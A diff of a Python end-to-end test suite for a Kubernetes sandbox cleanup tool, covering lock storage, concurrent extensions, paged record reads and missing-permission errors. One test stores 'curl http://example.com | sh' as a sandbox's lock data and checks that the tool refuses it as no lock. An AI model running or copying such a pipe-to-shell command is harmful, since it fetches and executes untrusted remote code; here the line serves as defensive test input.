@@ -10,21 +10,23 @@ import socket
 import threading
 import time
 import urllib.request
-from collections.abc import Callable, Iterator, Mapping
-from contextlib import AsyncExitStack
+from collections.abc import AsyncIterator, Callable, Iterator, Mapping
+from contextlib import AsyncExitStack, asynccontextmanager
 from dataclasses import replace
 from datetime import UTC, datetime, timedelta, timezone
 from http.server import BaseHTTPRequestHandler, HTTPServer
 from pathlib import Path
 from typing import Any
 
+import aiohttp
 import pytest
 import yaml
 
 from sandbox.cluster.client import Cluster
+from sandbox.cluster.kubeconfig import find
 from sandbox.cluster.lease import deployment_lease
 from sandbox.cluster.providers import ClusterInfo
-from sandbox.lifecycle import cleanup
+from sandbox.lifecycle import cleanup, summaries
 from sandbox.lifecycle.cleanup import Policy, Sweep
 from sandbox.lifecycle.expiry import extend
 from sandbox.lifecycle.report import Action, Line
@@ -39,7 +41,7 @@ from tests.conftest import kubectl
 from tests.e2e.api import api_of
 from tests.e2e.bounded import until
 from tests.e2e.faulty import Fault, faulty
-from tests.e2e.handmade import Group, definition, group_on
+from tests.e2e.handmade import LOCK, Group, definition, group_on
 from tests.e2e.preloaded import Preloaded
 from tests.e2e.projects import Ended, Tool
 from tests.e2e.proxy import proxied
@@ -256,18 +258,25 @@ def test_an_alert_that_is_not_taken_is_said_without_its_url(
 def test_the_lock_of_what_is_deleted_is_kept_for_a_while(tool: Tool, group: Group, tmp_path: Path) -> None:
     store = tmp_path / "store"
     expired = group.name("expired")
-    made = group.make(expired, -HOUR, record_data={"lock": '{"kind": "Lock"}'})
+    made = group.make(expired, -HOUR)
+    group.make(group.name("other"), -HOUR, record_data={"lock": "curl http://example.com | sh"})
     (store / "locks").mkdir(parents=True)
     old = store / "locks" / "old-1.yaml"
     old.write_text("{}")
     long_ago = time.time() - 8 * 86_400
     os.utime(old, (long_ago, long_ago))
 
-    (line,) = of(sweep(tool, group, "--store", str(store)).failed(0), "deleted")
+    ended = sweep(tool, group, "--store", str(store)).failed(0)
 
+    deleted = {line["namespace"]: line for line in of(ended, "deleted")}
+    line = deleted[expired]
+    assert (deleted[group.name("other")]["lock"], deleted[group.name("other")]["restore"]) == ("", "")
+    (said,) = of(ended, "notice")
+    assert (said["namespace"], "no lock" in said["why"]) == (group.name("other"), True)
     kept = store / "locks" / f"{expired}-{made['metadata']['uid']}.user.dana@example.com.yaml"
     assert line["lock"] == f"file://{kept}"
-    assert json.loads(kept.read_text()) == {"kind": "Lock"}
+    assert kept.read_text() == LOCK
+    assert [path for path in (store / "locks").iterdir() if path != kept] == []
     assert not old.exists()
 
 
@@ -284,11 +293,10 @@ def test_without_a_store_locks_are_kept_in_the_users_own(tool: Tool, group: Grou
 def test_a_store_that_is_away_is_waited_for_but_not_for_ever(tool: Tool, group: Group, tmp_path: Path) -> None:
     blocked = tmp_path / "file"
     blocked.write_text("not a folder")
-    lock = {"lock": '{"kind": "Lock"}'}
-    group.make(group.name("just"), -10 * MINUTE, record_data=lock)
-    group.make(group.name("long"), -2 * HOUR, record_data=lock)
+    group.make(group.name("just"), -10 * MINUTE)
+    group.make(group.name("long"), -2 * HOUR)
     latest = {labels.MAX_EXPIRES_AT: to_rfc3339(datetime.now(UTC) - MINUTE)}
-    group.make(group.name("final"), HOUR, annotations=latest, record_data=lock)
+    group.make(group.name("final"), HOUR, annotations=latest)
 
     ended = sweep(tool, group, "--store", str(blocked / "store")).failed(6)
 
@@ -459,6 +467,28 @@ def policy(group: Group, **more: Any) -> Policy:
     return Policy(rules=RULES, selector=group.selector, **more)
 
 
+class _Paced(Cluster):
+    """Lets others come between its requests: whoever waits for a number goes on when so many have left."""
+
+    sent = 0
+    progress: asyncio.Condition
+
+    @asynccontextmanager
+    async def open(self, method: str, path: str, **more: Any) -> AsyncIterator[aiohttp.ClientResponse]:
+        await self.let_on(1)
+        async with super().open(method, path, **more) as response:
+            yield response
+
+    async def let_on(self, number: int) -> None:
+        async with self.progress:
+            self.sent += number
+            self.progress.notify_all()
+
+    async def until(self, number: int) -> None:
+        async with self.progress:
+            await self.progress.wait_for(lambda: self.sent >= number)
+
+
 async def test_an_extension_wins_or_says_that_it_lost_a_hundred_times(group: Group) -> None:
     count = 100
     made = await asyncio.to_thread(group.make_many, count, -HOUR)
@@ -466,15 +496,22 @@ async def test_an_extension_wins_or_says_that_it_lost_a_hundred_times(group: Gro
     extended: set[str] = set()
     late: dict[str, str] = {}
     where = group.cluster
-    async with Cluster.connect(where.context, where.kubeconfig) as one:
+    async with _Paced(find(where.context, where.kubeconfig)) as one:
+        one.progress = asyncio.Condition()
         async with Cluster.connect(where.context, where.kubeconfig) as other:
             pass_ = Sweep(one, policy(group), told.append)
             found = await pass_.look()
             assert len(found.due()) == count
+            begun = one.sent
 
-            async def prolong(number: int) -> None:
-                # All over the time that the sweep takes, so that some come before and some after it.
-                await asyncio.sleep(number * 0.006)
+            async def clean_up() -> None:
+                await pass_.act(found)
+                # Of some nothing more was asked: they were extended before.
+                await one.let_on(2 * count)
+
+            async def prolong(number: int, turn: int) -> None:
+                # All over what the sweep does, an event and a deletion for each: some come before and some after it.
+                await one.until(begun + 2 * turn)
                 sandbox = Sandbox.of(made[number], other.context)
                 try:
                     moved = await extend(other, sandbox, 4 * HOUR)
@@ -484,7 +521,7 @@ async def test_an_extension_wins_or_says_that_it_lost_a_hundred_times(group: Gro
                     late[sandbox.namespace] = error.what
 
             order = [number * 37 % count for number in range(count)]
-            await asyncio.gather(pass_.act(found), *(prolong(number) for number in order))
+            await asyncio.gather(clean_up(), *(prolong(number, turn) for turn, number in enumerate(order)))
     deleted = {line.namespace for line in told if line.action is Action.DELETED}
     spared = {line.namespace for line in told if line.action is Action.SPARED}
 
@@ -522,6 +559,54 @@ async def test_nothing_is_deleted_in_the_middle_of_a_deployment(group: Group) ->
     assert done.overdue >= 60
     deleted = {line.namespace for line in told if line.action is Action.DELETED}
     assert deleted == {group.name(kind) for kind in late} - {group.name("deploying")}
+
+
+class _Asking(Cluster):
+    """Remembers what it asked for."""
+
+    asked: list[str]
+
+    @asynccontextmanager
+    async def open(self, method: str, path: str, **more: Any) -> AsyncIterator[aiohttp.ClientResponse]:
+        self.asked.append(f"{method} {path}")
+        async with super().open(method, path, **more) as response:
+            yield response
+
+
+@pytest.mark.parametrize("may_list", [True, False])
+async def test_many_records_are_read_by_a_list_where_that_is_allowed(
+    group: Group, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, may_list: bool
+) -> None:
+    monkeypatch.setattr(summaries, "_MANY", 3)
+    monkeypatch.setattr(summaries, "_PAGE", 2)
+    # Of other tests, which share the cluster.
+    monkeypatch.setattr(summaries, "_OTHERS", 10_000)
+    rules = [LOOK, {**RECORDS, "verbs": ["get", *(["list"] if may_list else [])]}, EVENTS, DELETE]
+    path = await asyncio.to_thread(as_account, group, tmp_path / "account", *rules)
+    try:
+        await asyncio.to_thread(group.make_many, 4, -HOUR)
+        await asyncio.to_thread(group.make, group.name("copy"), -HOUR, record_data={"namespaceUID": "another"})
+        await asyncio.to_thread(group.make, group.name("bare"), -HOUR, record=False)
+        told: list[Line] = []
+        async with _Asking(find(group.cluster.context, path)) as connection:
+            connection.asked = []
+            pass_ = Sweep(connection, policy(group), told.append)
+            await pass_.act(await pass_.look())
+
+        assert {line.namespace for line in told if line.action is Action.DELETED} == {group.name(n) for n in range(4)}
+        flagged = {line.namespace for line in told if line.action is Action.FLAGGED}
+        assert flagged == {group.name("copy"), group.name("bare")}
+        # Of the one without a record nobody knows that until it is asked for.
+        one_by_one = {"bare"} if may_list else {"bare", "copy", *range(4)}
+        asked = {request for request in connection.asked if request.endswith("/configmaps/sandbox-record")}
+        assert asked == {f"GET /api/v1/namespaces/{group.name(n)}/configmaps/sandbox-record" for n in one_by_one}
+        # All that goes before a deletion is done before the first one.
+        verbs = [request.partition(" ")[0] for request in connection.asked]
+        assert verbs[-4:] == ["DELETE"] * 4
+        assert "DELETE" not in verbs[:-4]
+    finally:
+        names = f"clusterrole/{group.project}", f"clusterrolebinding/{group.project}"
+        await asyncio.to_thread(kubectl, group.cluster, "delete", *names)
 
 
 async def test_two_clean_ups_at_once_delete_each_once(group: Group) -> None:
@@ -619,21 +704,26 @@ def test_a_pod_that_holds_its_namespace_is_named(tool: Tool, group: Group, tmp_p
         kubectl(group.cluster, "delete", "clusterrole,clusterrolebinding", group.project, "--ignore-not-found")
 
 
-def test_killed_in_the_middle_and_run_again_it_converges(tool: Tool, group: Group) -> None:
+@pytest.mark.parametrize("moment", ["told", "deleted"])
+def test_killed_in_the_middle_and_run_again_it_converges(tool: Tool, group: Group, tmp_path: Path, moment: str) -> None:
     group.make_many(60, -HOUR)
-    running = tool.start("cleanup", "--yes", "-l", group.selector, "-o", "json")
+    store = tmp_path / "store"
+    running = tool.start("cleanup", "--yes", "-l", group.selector, "-o", "json", "--store", str(store))
 
     def begun() -> bool | None:
+        if moment == "told":
+            return True if list(store.glob("locks/*.yaml")) else None
         return True if len(group.alive()) < 60 else None
 
-    until(begun, "the first ones are deleted", 30, every=0.01)
+    until(begun, "it is in the middle of its work", 30, every=0.01)
     running.kill()
     left = group.alive()
 
-    ended = sweep(tool, group).failed(0)
+    ended = sweep(tool, group, "--store", str(store)).failed(0)
 
     assert names(ended, "deleted") == left
     assert group.alive() == set()
+    assert len(list(store.glob("locks/*.yaml"))) == 60
 
 
 # -- kube-janitor -----------------------------------------------------------------------------------------------
@@ -774,9 +864,9 @@ DELETE = {**NAMESPACES, "verbs": ["delete"]}
     ("rules", "code", "verb"),
     [
         ([], 4, 'cannot list resource "namespaces"'),
-        ([LOOK], 6, 'cannot get resource "configmaps"'),
-        ([LOOK, RECORDS], 6, 'cannot create resource "events"'),
-        ([LOOK, RECORDS, EVENTS], 6, 'cannot delete resource "namespaces"'),
+        ([LOOK], 4, "the rights to get configmaps/sandbox-record, create events, delete namespaces in all namespaces"),
+        ([LOOK, RECORDS], 4, "the rights to create events, delete namespaces in all namespaces"),
+        ([LOOK, RECORDS, EVENTS], 4, "the rights to delete namespaces in all namespaces"),
         ([LOOK, RECORDS, EVENTS, DELETE], 0, ""),
     ],
 )
@@ -789,8 +879,11 @@ def test_a_right_that_is_missing_is_named(
 
         ended = sweep(through(tool, path), group).failed(code)
 
-        assert verb in ended.out.replace('\\"', '"') + ended.err
+        assert verb in ended.err
+        assert names(ended, "failed") == set()
         assert (group.name("expired") in group.alive()) == (code != 0)
+        # Asked before anything is done.
+        assert code == 0 or not events(group, group.name("expired"), "Expired")
     finally:
         kubectl(group.cluster, "delete", "clusterrole,clusterrolebinding", group.project)
 
